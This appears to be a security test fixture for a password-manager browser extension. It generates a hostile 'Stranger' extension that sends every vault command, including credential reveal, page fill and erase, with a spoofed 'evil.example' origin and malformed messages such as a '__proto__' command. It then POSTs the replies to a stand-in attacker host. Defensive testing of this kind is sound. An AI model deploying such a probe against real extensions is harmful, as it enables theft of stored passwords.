import type { EntryId } from '../../src/domain/ids.ts';
import type { CommandName } from '../../src/messaging/contract.ts';
import { rules } from '../../src/messaging/contract-rules.ts';
import type { BrowserKind } from '../browser/driver.ts';

/** What was sent, and what came back. */
export interface Letter {
  readonly what: string;
  readonly heard: string;
}

interface Sent {
  readonly name: string;
  readonly message: unknown;
}

const build = '0.1.0';
const phrase = 'a phrase that nobody chose';

/** A valid body of every command that could do or tell something; the others take an empty one. */
const bodies = (entryId: EntryId): Partial<Record<CommandName, object>> => ({
  'vault.create': { passphrase: phrase },
  'vault.unlock': { passphrase: phrase },
  'vault.setTechnicianPassphrase': { passphrase: phrase },
  'vault.changePassphrase': { current: phrase, next: phrase },
  'vault.discardDamaged': { records: [] },
  'vault.erase': { confirm: 'erase' },
  'settings.set': { idleMinutes: 60, capHours: 12 },
  'entry.delete': { entryId, rev: 1 },
  'entry.restore': { entryId },
  'credentials.list': { entryId, refresh: true },
  'credential.reveal': { entryId, passwordId: null, purpose: 'reveal' },
  'page.fill': { entryId, passwordId: null, tabId: 1 },
  'session.launch': { entryId, passwordId: null },
});

/** Every command with its body, with an entry and an origin besides, and shapes that are none of ours. */
export function lettersFor(entryId: EntryId): readonly Sent[] {
  const known = bodies(entryId);
  const commands = Object.keys(rules) as CommandName[];
  const valid = commands.map((command) => ({
    name: command,
    message: { command, body: known[command] ?? {}, build },
  }));
  const more = commands.map((command) => ({
    name: `${command} with more`,
    message: {
      command,
      body: { ...known[command], entryId, origin: 'https://evil.example', tabId: 1 },
      build,
      sender: 1,
    },
  }));
  const shapes = ['text', 7, true, [], [1, 2], {}, { command: null }, { command: '__proto__', body: {}, build }];
  return [...valid, ...more, ...shapes.map((message, index) => ({ name: `shape ${index}`, message }))];
}

/** Runs as the stranger's background. */
const background = (target: string, letters: readonly Sent[]): string => `
const target = ${JSON.stringify(target)};
const letters = JSON.parse(${JSON.stringify(JSON.stringify(letters))});
const within = (attempt) => Promise.race([attempt, new Promise((resolve) => setTimeout(resolve, 1500))]);
const heard = (attempt) => within(attempt).then(
  (reply) => (reply === undefined || reply === null ? 'nothing' : 'answered ' + JSON.stringify(reply)),
  (error) => 'refused: ' + String(error));
const connected = (name) => new Promise((resolve) => {
  const port = chrome.runtime.connect(target, { name });
  port.onMessage.addListener((message) => resolve('answered ' + JSON.stringify(message)));
  port.onDisconnect.addListener(() => { void chrome.runtime.lastError; resolve('disconnected'); });
  try { port.postMessage({ type: 'report', report: { fields: ['password'], actionOrigin: null, refusal: null } }); } catch {}
  setTimeout(() => resolve('nothing'), 1500);
});
(async () => {
  const said = [];
  // In small lots: each letter has its own time to be answered.
  for (let at = 0; at < letters.length; at += 100)
    said.push(...await Promise.all(letters.slice(at, at + 100).map(async ({ name, message }) =>
      ({ what: name, heard: await heard(chrome.runtime.sendMessage(target, message)) }))));
  for (const name of ['fill', 'command']) said.push({ what: 'port ' + name, heard: await connected(name) });
  await fetch('https://stranger.attack.example/', { method: 'POST', body: JSON.stringify({ said }) });
})();
`;

/** The files of an extension that knows ours by its id and writes to it; what it hears it posts to a host of the bench. */
export function strangerFiles(
  kind: BrowserKind,
  target: string,
  letters: readonly Sent[],
): Readonly<Record<string, string>> {
  const manifest = {
    manifest_version: 3,
    name: 'Stranger',
    version: '1.0',
    background: kind === 'chromium' ? { service_worker: 'background.js' } : { scripts: ['background.js'] },
    host_permissions: ['https://stranger.attack.example/*'],
    ...(kind === 'firefox' ? { browser_specific_settings: { gecko: { id: 'stranger@attack.example' } } } : {}),
  };
  return { 'manifest.json': JSON.stringify(manifest), 'background.js': background(target, letters) };
}
